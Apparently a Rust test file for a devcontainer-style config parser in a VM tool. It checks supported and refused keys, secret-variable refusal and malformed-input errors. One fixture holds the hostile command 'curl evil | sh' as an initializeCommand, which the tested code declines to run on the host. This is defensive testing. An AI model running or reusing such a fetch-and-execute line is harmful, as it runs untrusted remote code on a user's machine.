use super::*;
use expect_test::{Expect, expect};

fn parse(text: &str) -> Result<Config> {
    let members = json(text)?;
    check_keys(&members)?;
    let variables = Variables {
        guest_dir: "/root/app",
        name: "app",
        id: "app-1",
        allowed: &["OK".to_owned()],
        env: &|name| Some(format!("value of {name}")),
    };
    config(members, &variables)
}

#[track_caller]
fn check(text: &str, expected: Expect) {
    let shown = match parse(text) {
        Ok(config) => format!("{config:#?}\n"),
        Err(e) => {
            let hints = e.hint_text().unwrap_or_default().lines();
            let hints: String = hints.map(|hint| format!("hint: {hint}\n")).collect();
            format!("{e}\n{hints}")
        }
    };
    expected.assert_eq(&shown);
}

#[test]
fn supported_keys_are_read() {
    check(
        r#"{
            // Comments and trailing commas are allowed.
            "name": "App", "image": "gcc:13", /* "image": "x", */
            "hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "32gb", "gpu": "optional"},
            "forwardPorts": [3000, "5432", "localhost:80", 3000],
            "containerEnv": {"A": "${localEnv:OK}", "URL": "http://x//y"},
            "remoteEnv": {"PATH": "${containerEnv:PATH}:/x", "B": null},
            "remoteUser": "dev",
            "workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}",
            "postCreateCommand": {"a": "make ${containerWorkspaceFolder}", "b": ["npm", "ci"]},
            "postStartCommand": ["true"],
            "waitFor": "postCreateCommand",
            "initializeCommand": "curl evil | sh",
            "customizations": {"vscode": {"settings": {"x": "${localEnv:SECRET}"}}},
            "mounts": [],
            "colour": "red",
        }"#,
        expect![[r#"
            Config {
                image: Some(
                    gcc:13,
                ),
                cpus: Some(
                    4,
                ),
                memory_mib: Some(
                    8192,
                ),
                disk_bytes: Some(
                    34359738368,
                ),
                ports: [
                    3000,
                    5432,
                    80,
                ],
                env: [
                    (
                        "A",
                        Some(
                            "value of OK",
                        ),
                    ),
                    (
                        "URL",
                        Some(
                            "http://x//y",
                        ),
                    ),
                    (
                        "B",
                        None,
                    ),
                    (
                        "PATH",
                        Some(
                            "${containerEnv:PATH}:/x",
                        ),
                    ),
                ],
                user: Some(
                    "dev",
                ),
                once: [
                    Step {
                        key: "postCreateCommand",
                        run: Parallel(
                            [
                                (
                                    "a",
                                    Line(
                                        "make /root/app",
                                    ),
                                ),
                                (
                                    "b",
                                    Words(
                                        [
                                            "npm",
                                            "ci",
                                        ],
                                    ),
                                ),
                            ],
                        ),
                    },
                ],
                at_start: Some(
                    Step {
                        key: "postStartCommand",
                        run: Words(
                            [
                                "true",
                            ],
                        ),
                    },
                ),
                wait_for: Some(
                    "postCreateCommand",
                ),
                notes: [
                    "\"colour\" is unknown and is ignored",
                    "initializeCommand is not run: nothing that a repository asks for runs on this host",
                ],
            }
        "#]],
    );
}

#[test]
fn refused_keys_say_what_to_do_instead() {
    check(
        r#"{"build": {"dockerfile": "Dockerfile"}, "dockerComposeFile": "c.yml", "service": "app",
            "features": {"x": {}}, "mounts": ["x"], "runArgs": ["--privileged"], "appPort": 1}"#,
        expect![[r#"
            build, dockerComposeFile, features, mounts, runArgs, appPort are not supported
            hint: build: fcd does not build images from a Dockerfile: build it with docker, run `docker save IMAGE | fcctl image pull -`, and name it with "image"
            hint: dockerComposeFile: fcd does not run several containers together: name one "image", and start the other services in the VM, for example with docker compose in postStartCommand
            hint: features: fcd does not install features: install what you need with postCreateCommand, or once for all VMs with fcctl image build --script
            hint: mounts: fcd copies directories and does not mount them: copy others with fcctl workspace prepare VM PATH, and use "workspaceFolder" for the place of this one
            hint: runArgs: these are options of docker: use "hostRequirements", "forwardPorts", "containerEnv" and "remoteUser" for what they set
            hint: appPort: use "forwardPorts", which publishes a port on 127.0.0.1
        "#]],
    );
    check(
        r#"{"dockerFile": "Dockerfile"}"#,
        expect![[r#"
        dockerFile is not supported
        hint: dockerFile: fcd does not build images from a Dockerfile: build it with docker, run `docker save IMAGE | fcctl image pull -`, and name it with "image"
    "#]],
    );
}

#[test]
fn variables_of_the_caller_are_refused() {
    check(
        r#"{"containerEnv": {"A": "${localEnv:AWS_SECRET}"}, "postCreateCommand": "${env:TOKEN}"}"#,
        expect![[r#"
            the file asks for variables of your own environment, which may be secrets: AWS_SECRET, TOKEN
            hint: if the guest may have them: fcctl up --allow-env AWS_SECRET --allow-env TOKEN
        "#]],
    );
    check(
        r#"{"remoteEnv": {"A": "${localWorkspaceFolder}"}}"#,
        expect![[r#"
            ${localWorkspaceFolder} is a path of this host
            hint: use ${containerWorkspaceFolder}, the directory in the VM
        "#]],
    );
}

#[test]
fn malformed_files_are_refused() {
    for (text, expected) in [
        ("", "not JSON: EOF while parsing a value"),
        ("[]", "not a JSON object"),
        ("{\n\"a\": 1 2}", "not JSON: expected `,` or `}` at line 2"),
        (r#"{"image": 1}"#, "image is not a string"),
        (r#"{"image": "A B"}"#, "image: image name"),
        (r#"{"image": "a\u0000"}"#, "image contains a NUL"),
        (r#"{"forwardPorts": 80}"#, "forwardPorts is not a list"),
        (
            r#"{"forwardPorts": [0]}"#,
            "forwardPorts: \"0\" is not a port",
        ),
        (r#"{"forwardPorts": [65536]}"#, "is not a port"),
        (
            r#"{"forwardPorts": ["db:5432"]}"#,
            "is not a port of this VM",
        ),
        (
            r#"{"containerEnv": {"A=B": "x"}}"#,
            "is not a variable's name",
        ),
        (
            r#"{"containerEnv": {"A": 1}}"#,
            "containerEnv.A is not a string",
        ),
        (r#"{"remoteEnv": []}"#, "remoteEnv is not an object"),
        (
            r#"{"hostRequirements": {"cpus": -1}}"#,
            "is not a number of CPUs",
        ),
        (
            r#"{"hostRequirements": {"memory": "much"}}"#,
            "is not a size such as 8gb",
        ),
        (
            r#"{"hostRequirements": 1}"#,
            "hostRequirements is not an object",
        ),
        (
            r#"{"postCreateCommand": 1}"#,
            "postCreateCommand is not a string",
        ),
        (
            r#"{"postCreateCommand": {"a": {"b": "c"}}}"#,
            "postCreateCommand is not a string",
        ),
        (
            r#"{"waitFor": "lunch"}"#,
            "waitFor: \"lunch\" is not a command",
        ),
    ] {
        let e = parse(text).unwrap_err().to_string();
        assert!(e.contains(expected), "{text}: {e}");
    }
    // Deep nesting must not exhaust the stack.
    let deep = format!("{{\"a\": {}", "[".repeat(500_000));
    assert!(parse(&deep).is_err());
    assert_eq!(parse("\u{feff}{}").unwrap(), Config::default());
}

#[test]
fn later_commands_are_not_waited_for() {
    let waits = |wait_for: &str, key| {
        let text = format!(r#"{{"waitFor": "{wait_for}"}}"#);
        parse(&text).unwrap().is_waited_for(key)
    };
    assert!(waits("postCreateCommand", "onCreateCommand"));
    assert!(waits("postCreateCommand", "postCreateCommand"));
    assert!(!waits("postCreateCommand", "postStartCommand"));
    assert!(!waits("initializeCommand", "onCreateCommand"));
    assert!(Config::default().is_waited_for("postStartCommand"));
}
